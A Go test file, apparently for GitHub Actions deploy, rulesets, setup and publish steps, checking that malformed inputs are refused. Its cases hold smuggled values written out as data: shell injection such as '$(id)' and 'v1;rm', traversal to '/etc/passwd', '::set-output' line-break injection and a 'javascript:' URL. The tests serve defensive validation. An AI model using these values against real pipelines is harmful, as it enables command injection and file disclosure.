		{name: "app-repo not owner/name", env: planning("INPUT_APP_REPO=app"), input: "app-repo"},
		{name: "version-pattern not a regular expression", env: validating("INPUT_VERSION_PATTERN=(["), input: "version-pattern"},
		{name: "promotion-chain climbing out", env: validating("INPUT_PROMOTION_CHAIN=dev, ../prod"), input: "promotion-chain"},
		{name: "validate app-repo with a path", env: validating("INPUT_APP_REPO=acme/app/x"), input: "app-repo"},
		{name: "token empty", env: deploying("INPUT_GITHUB_TOKEN="), input: "github-token", want: []string{"is empty"}},
		{name: "token with a newline", env: deploying("INPUT_GITHUB_TOKEN=ghs_abcLINE1\nghs_defLINE2"), masks: []string{"ghs_abcLINE1", "ghs_defLINE2"}, input: "github-token"},
		{name: "run's commit not a SHA", env: deploying("GITHUB_SHA=main"), want: []string{"GITHUB_SHA", "not a full SHA"}},
		{name: "token GitHub does not know (401)", env: deploying("INPUT_GITHUB_TOKEN=" + badUnknownToken), masks: []string{badUnknownToken}, anonymous: true,
			byWrite: true, want: []string{"401", "the token is invalid or expired"}},
		{name: "token without write access (403)", env: deploying("INPUT_GITHUB_TOKEN=" + badReadToken), setup: readOnly, login: badReadLogin, masks: []string{badReadToken},
			byWrite: true, want: []string{"403", "lacks a permission"}},
		{name: "repository that does not exist", env: deploying("GITHUB_REPOSITORY=acme/nope"), byWrite: true, want: []string{"acme/nope", "404", "does not exist"}},
	}
	// One checkout, copied for each case.
	checkout := infraCheckout(t)
	badTable{step: "deploy", repos: []string{"acme/infra"}, prepare: func(t *testing.T, w *world) badRun {
		dir := t.TempDir()
		must(t, os.CopyFS(dir, os.DirFS(checkout)))
		marker := filepath.Join(t.TempDir(), "deployed")
		return badRun{step: deploy.Step, dir: dir,
			env: w.env("acme/infra", w.infra, "MARKER="+marker, `INPUT_COMMAND=echo "$VERSION" >> "$MARKER"`),
			writes: func() []string {
				if data, err := os.ReadFile(marker); err == nil {
					return []string{"the deploy command ran: " + string(data)}
				}
				return nil
			}}
	}}.run(t, cases)
}

// goodRuleset is a ruleset file the rulesets cases break one way at a time.
const goodRuleset = `{"name": "Main", "target": "branch", "enforcement": "active",
  "conditions": {"ref_name": {"include": ["~DEFAULT_BRANCH"], "exclude": []}},
  "rules": [{"type": "deletion"}, {"type": "non_fast_forward"}],
  "bypass_actors": [{"actor_id": 1, "actor_type": "Integration", "bypass_mode": "pull_request"}]}`

func TestBadInputRulesets(t *testing.T) {
	apply := func(kv ...string) []string {
		return append([]string{"INPUT_COMMAND=apply", "INPUT_FILES=rulesets/main.json"}, kv...)
	}
	bad := func(content string) map[string]string { return map[string]string{"rulesets/bad.json": content} }
	badFile := apply("INPUT_FILES=rulesets/bad.json")
	cases := []badCase{
		{name: "command missing", env: []string{"INPUT_FILES=rulesets/main.json"}, input: "command", want: []string{"is required"}},
		{name: "command unknown", env: apply("INPUT_COMMAND=sync"), input: "command", want: []string{"apply, verify"}},
		{name: "command with shell", env: apply("INPUT_COMMAND=apply;id"), input: "command"},
		{name: "repositories not owner/name", env: apply("INPUT_REPOSITORIES=acme"), input: "repositories"},
		{name: "repositories with a path", env: apply("INPUT_REPOSITORIES=acme/app/x"), input: "repositories"},
		{name: "repositories climbing out", env: apply("INPUT_REPOSITORIES=../app"), input: "repositories"},
		{name: "repositories, the second bad", env: apply("INPUT_REPOSITORIES=acme/app\nacme/$(id)"), input: "repositories"},
		{name: "dry-run not a boolean", env: apply("INPUT_DRY_RUN=yes"), input: "dry-run"},
		{name: "bypass-app-id not a number", env: []string{"INPUT_COMMAND=apply", "INPUT_PRESET=hotfixes", "INPUT_BYPASS_APP_ID=Iv1.abc"}, input: "bypass-app-id"},
		{name: "bypass-app-id negative", env: []string{"INPUT_COMMAND=apply", "INPUT_PRESET=hotfixes", "INPUT_BYPASS_APP_ID=-5"}, input: "bypass-app-id"},
		{name: "preset unknown", env: []string{"INPUT_COMMAND=apply", "INPUT_PRESET=strict", "INPUT_BYPASS_APP_ID=1"}, input: "preset"},
		{name: "nothing to apply", env: []string{"INPUT_COMMAND=apply"}, input: "preset", want: []string{"so is files"}},
		{name: "preset without the bot", env: []string{"INPUT_COMMAND=apply", "INPUT_PRESET=hotfixes"}, input: "bypass-app-id"},
		{name: "preset default without checks", env: []string{"INPUT_COMMAND=apply", "INPUT_PRESET=default", "INPUT_BYPASS_APP_ID=1"}, input: "required-checks"},
		{name: "file climbing out", env: apply("INPUT_FILES=../etc/passwd"), input: "files", want: []string{"outside the workspace"}},
		{name: "file absolute", env: apply("INPUT_FILES=/etc/passwd"), input: "files", want: []string{"relative to the workspace"}},
		{name: "file that does not exist", env: apply("INPUT_FILES=rulesets/none.json"), input: "files", want: []string{"does not exist"}},
		{name: "file with invalid JSON", env: badFile, files: bad("{\n  \"name\": \"Main\",\n  \"target\" \"branch\"\n}"), input: "files", want: []string{"line 3, column 12"}},
		{name: "file empty", env: badFile, files: bad(""), input: "files", want: []string{"empty"}},
		{name: "file over the size cap", env: badFile, files: bad(`{"name": "` + strings.Repeat("x", 1<<20) + `"}`), input: "files", want: []string{"at most 1048576"}},
		{name: "file with two rulesets", env: badFile, files: bad(goodRuleset + "\n{}"), input: "files", want: []string{"one ruleset per file"}},
		{name: "file with an unknown field", env: badFile, files: bad(strings.Replace(goodRuleset, `"target"`, `"targt": "x", "target"`, 1)), input: "files", want: []string{"targt: unknown field"}},
		{name: "file giving the bot push rights", env: badFile, files: bad(strings.Replace(goodRuleset, `"pull_request"}`, `"always"}`, 1)), input: "files", want: []string{`"always" refused`}},
		{name: "file with a name holding a line break", env: badFile, files: bad(strings.Replace(goodRuleset, `"Main"`, `"Main\n::set-output name=changed::true"`, 1)), input: "files", want: []string{"control character"}},
		{name: "files with one name twice", env: apply("INPUT_FILES=rulesets/main.json, rulesets/bad.json"), files: bad(goodRuleset), input: "files", want: []string{"unique per repository"}},
		{name: "token empty", env: apply("INPUT_GITHUB_TOKEN="), input: "github-token", want: []string{"is empty"}},
		{name: "token with a space", env: apply("INPUT_GITHUB_TOKEN=ghs_abc def"), masks: []string{"ghs_abc def"}, input: "github-token"},
		{name: "token GitHub does not know (401)", env: apply("INPUT_GITHUB_TOKEN=" + badUnknownToken), masks: []string{badUnknownToken}, anonymous: true, report: true,
			want: []string{"401", "the token is invalid or expired"}},
		{name: "repository that does not exist", env: apply("INPUT_REPOSITORIES=acme/nope"), report: true, want: []string{"acme/nope", "404", "does not exist"}},
		{name: "repository the token cannot see (404)", env: apply("INPUT_REPOSITORIES=acme/vault"), setup: vaultRepo, report: true, want: []string{"acme/vault", "404", "cannot see it"}},
		{name: "token without administration (403)", env: apply(), byWrite: true, report: true, want: []string{`create ruleset "Main"`, "403"}},
	}
	badTable{step: "rulesets", repos: []string{"acme/app"}, prepare: func(t *testing.T, w *world) badRun {
		dir := t.TempDir()
		writeFiles(t, dir, map[string]string{"rulesets/main.json": goodRuleset})
		return badRun{step: rulesets.Step, dir: dir, env: w.env("acme/app", w.app[3])}
	}}.run(t, cases)
}

func TestBadInputSetup(t *testing.T) {
	f := worldFacts(t)
	notJSON := filepath.Join(t.TempDir(), "event.json")
	must(t, os.WriteFile(notJSON, []byte("{not json"), 0o644))
	push := []string{"GITHUB_EVENT_NAME=push", "GITHUB_REF=refs/heads/main", "GITHUB_SHA=" + f.app[3], "INPUT_DEFAULT_BRANCH=main"}
	with := func(kv ...string) []string { return append(append([]string{}, push...), kv...) }
	cases := []badCase{
		{name: "hotfix-prefix empty", env: with("INPUT_HOTFIX_PREFIX="), input: "hotfix-prefix"},
		{name: "hotfix-prefix climbing out", env: with("INPUT_HOTFIX_PREFIX=../"), input: "hotfix-prefix"},
		{name: "hotfix-prefix with ..", env: with("INPUT_HOTFIX_PREFIX=hot..fix/"), input: "hotfix-prefix"},
		{name: "hotfix-prefix with shell", env: with("INPUT_HOTFIX_PREFIX=$(id)/"), input: "hotfix-prefix"},
		{name: "hotfix-prefix starting with -", env: with("INPUT_HOTFIX_PREFIX=-x/"), input: "hotfix-prefix"},
		{name: "hotfix-prefix with a line break", env: with("INPUT_HOTFIX_PREFIX=hotfixes/\nmain"), input: "hotfix-prefix"},
		{name: "default-branch unknown", env: with("INPUT_DEFAULT_BRANCH="), input: "default-branch", want: []string{"does not name the repository's default branch"}},
		{name: "the run's commit not a SHA", env: with("GITHUB_SHA=main"), want: []string{"GITHUB_SHA", "not a full commit SHA"}},
		{name: "the run's commit short", env: with("GITHUB_SHA=" + f.app[3][:7]), want: []string{"GITHUB_SHA", "not a full commit SHA"}},
		{name: "event payload missing", env: with("GITHUB_EVENT_PATH=/nonexistent/event.json"), want: []string{"read event payload"}},
		{name: "event payload not JSON", env: with("GITHUB_EVENT_PATH=" + notJSON), want: []string{"read event payload", "invalid character"}},
	}
	badTable{step: "setup", noWorld: true, prepare: func(t *testing.T, _ *world) badRun {
		dir := t.TempDir()
		return badRun{step: setup.Step, dir: dir, env: []string{"GITHUB_REPOSITORY=acme/app"}}
	}}.run(t, cases)
}

// The registry's pusher and password, a secret of the publish runs.
const (
	registryUser     = "pusher"
	registryPassword = "publish-PASSWORD-hardening-0123456789"
)

// startRegistry runs the pinned CNCF registry with basic auth until the
// test (and its parallel subtests) end.
func startRegistry(t *testing.T) *localregistry.Registry {
	t.Helper()
	exe, err := tools.Path("registry")
	if err != nil {
		t.Fatalf("registry binary: %v", err)
	}
	reg, err := localregistry.Start(exe, t.TempDir(), map[string]string{registryUser: registryPassword})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		reg.Close()
		if t.Failed() {
			t.Logf("registry log:\n%s", reg.Log())
		}
	})
	return reg
}

var registryAuth = &authn.Basic{Username: registryUser, Password: registryPassword}

// registryLog is the publish step's transport: it records every request
// that changes the registry.
type registryLog struct {
	mu     sync.Mutex
	writes []string
}

func (l *registryLog) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Method != http.MethodGet && r.Method != http.MethodHead {
		l.mu.Lock()
		l.writes = append(l.writes, r.Method+" "+r.URL.Path)
		l.mu.Unlock()
	}
	return http.DefaultTransport.RoundTrip(r)
}

func (l *registryLog) list() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.writes...)
}

// publishCheckout is a checkout with one commit and a file to push. The
// step only reads it, so parallel runs share it.
type publishCheckout struct{ dir, sha string }

func newPublishCheckout(t *testing.T) publishCheckout {
	dir := t.TempDir()
	return publishCheckout{dir, gitRepo(t, dir, map[string]string{"dist/app.txt": "the build\n"})}
}

// publishRun prepares a publish run in ws: the step with a recording
// transport and no docker login.
func publishRun(ws publishCheckout, image string) (badRun, *registryLog) {
	dir, sha := ws.dir, ws.sha
	l := &registryLog{}
	step := publish.NewStep(publish.Options{
		Backoff:  remote.Backoff{Duration: 10e6, Factor: 1, Steps: 2},
		Keychain: authn.NewMultiKeychain(), // anonymous: never the machine's docker login
	})
	return badRun{step: step, dir: dir, writes: l.list, transport: l, secrets: []string{registryPassword}, env: []string{
		"GITHUB_EVENT_NAME=push", "GITHUB_REF=refs/heads/main", "GITHUB_SHA=" + sha, "GITHUB_REPOSITORY=acme/app",
		"GITHUB_SERVER_URL=https://github.com", "GITHUB_RUN_ID=7",
		"INPUT_IMAGE=" + image, "INPUT_SOURCE=dist/app.txt", "INPUT_USERNAME=" + registryUser, "INPUT_PASSWORD=" + registryPassword,
	}}, l
}

func TestBadInputPublish(t *testing.T) {
	reg := startRegistry(t)
	image := reg.Host + "/acme/app"
	frozen := reg.Host + "/acme/frozen"
	t.Cleanup(func() {
		r, err := name.NewRegistry(reg.Host, name.Insecure)
		must(t, err)
		repos, err := remote.Catalog(context.Background(), r, remote.WithAuth(registryAuth))
		must(t, err)
		if strings.Join(repos, ",") != "acme/frozen" {
			t.Errorf("the refused runs pushed: the registry holds %v", repos)
		}
	})
	seedFrozen := func(t *testing.T, _ *world) {
		img, err := mutate.AppendLayers(empty.Image, static.NewLayer([]byte("another build"), types.OCILayer))
		must(t, err)
		tag, err := name.NewTag(frozen+":v1", name.Insecure)
		must(t, err)
		must(t, remote.Write(tag, img, remote.WithAuth(registryAuth)))
	}
	sha := strings.Repeat("ab", 20)
	cases := []badCase{
		{name: "image missing", env: []string{"INPUT_IMAGE="}, input: "image", want: []string{"is required"}},
		{name: "image without a registry host", env: []string{"INPUT_IMAGE=acme/app"}, input: "image", want: []string{"registry host"}},
		{name: "image with a tag", env: []string{"INPUT_IMAGE=" + image + ":v1"}, input: "image", want: []string{"tag or digest"}},
		{name: "image with a digest", env: []string{"INPUT_IMAGE=" + image + "@sha256:" + strings.Repeat("a", 64)}, input: "image", want: []string{"tag or digest"}},
		{name: "image with a scheme", env: []string{"INPUT_IMAGE=https://" + image}, input: "image", want: []string{"URL scheme"}},
		{name: "image with a space", env: []string{"INPUT_IMAGE=" + image + " x"}, input: "image"},
		{name: "image climbing out", env: []string{"INPUT_IMAGE=" + reg.Host + "/acme/../etc"}, input: "image"},
		{name: "image with a line break", env: []string{"INPUT_IMAGE=" + image + "\n::set-output name=digest::x"}, input: "image"},
		{name: "tag latest", env: []string{"INPUT_TAGS=latest"}, input: "tags", want: []string{"immutable"}},
		{name: "tag starting with -", env: []string{"INPUT_TAGS=-x"}, input: "tags"},
		{name: "tag starting with .", env: []string{"INPUT_TAGS=.hidden"}, input: "tags"},
		{name: "tag with shell", env: []string{"INPUT_TAGS=$(id)"}, input: "tags"},
		{name: "tag with a semicolon", env: []string{"INPUT_TAGS=v1;rm"}, input: "tags"},
		{name: "tag as image:tag", env: []string{"INPUT_TAGS=" + image + ":v1"}, input: "tags"},
		{name: "tag over-long", env: []string{"INPUT_TAGS=" + strings.Repeat("t", 129)}, input: "tags"},
		{name: "revision short", env: []string{"INPUT_REVISION=" + sha[:7]}, input: "revision", want: []string{"not a full commit SHA"}},
		{name: "revision not hex", env: []string{"INPUT_REVISION=" + strings.Repeat("z", 40)}, input: "revision"},
		{name: "revision empty, the run's commit short", env: []string{"GITHUB_SHA=" + sha[:7]}, input: "revision"},
		{name: "created not RFC 3339", env: []string{"INPUT_CREATED=yesterday"}, input: "created"},
		{name: "publish not a boolean", env: []string{"INPUT_PUBLISH=yes"}, input: "publish"},
		{name: "insecure not a boolean", env: []string{"INPUT_INSECURE=1"}, input: "insecure"},
		{name: "source-type unknown", env: []string{"INPUT_SOURCE_TYPE=zip"}, input: "source-type"},
		{name: "source missing", env: []string{"INPUT_SOURCE="}, input: "source", want: []string{"is required"}},
		{name: "source that does not exist", env: []string{"INPUT_SOURCE=dist/nope.tar"}, input: "source", want: []string{"does not exist"}},
		{name: "several sources for one image", env: []string{"INPUT_SOURCE=a\nb", "INPUT_SOURCE_TYPE=oci-layout"}, input: "source", want: []string{"has 2 paths"}},
		{name: "artifact-type not a media type", env: []string{"INPUT_ARTIFACT_TYPE=not a type"}, input: "artifact-type"},
		{name: "source-url not http(s)", env: []string{"INPUT_SOURCE_URL=ftp://example.com/x"}, input: "source-url"},
		{name: "source-url javascript", env: []string{"INPUT_SOURCE_URL=javascript:alert(1)"}, input: "source-url"},
		{name: "version with a line break", env: []string{"INPUT_VERSION=1.0\n::set-output name=digest::x"}, input: "version", want: []string{"control characters"}},
		{name: "version over-long", env: []string{"INPUT_VERSION=" + strings.Repeat("v", 1025)}, input: "version"},
		{name: "password without a user", env: []string{"INPUT_USERNAME="}, input: "username"},
		{name: "user without a password", env: []string{"INPUT_PASSWORD="}, input: "password"},
		{name: "wrong password (401)", env: []string{"INPUT_PASSWORD=wrong-PASSWORD-hardening-987"}, masks: []string{"wrong-PASSWORD-hardening-987"},
			want: []string{"401 Unauthorized", "check username/password"}},
		{name: "no credentials for a registry that needs them (401)", env: []string{"INPUT_USERNAME=", "INPUT_PASSWORD="}, want: []string{"401 Unauthorized", "no credentials were sent"}},
		{name: "tag that exists with another build", env: []string{"INPUT_IMAGE=" + frozen, "INPUT_TAGS=v1"}, setup: seedFrozen,
			want: []string{"tag " + frozen + ":v1 already exists", "nothing was pushed"}},
	}
	ws := newPublishCheckout(t)
	badTable{step: "publish", noWorld: true, prepare: func(t *testing.T, _ *world) badRun {
		r, _ := publishRun(ws, image)
		return r
	}}.run(t, cases)
}
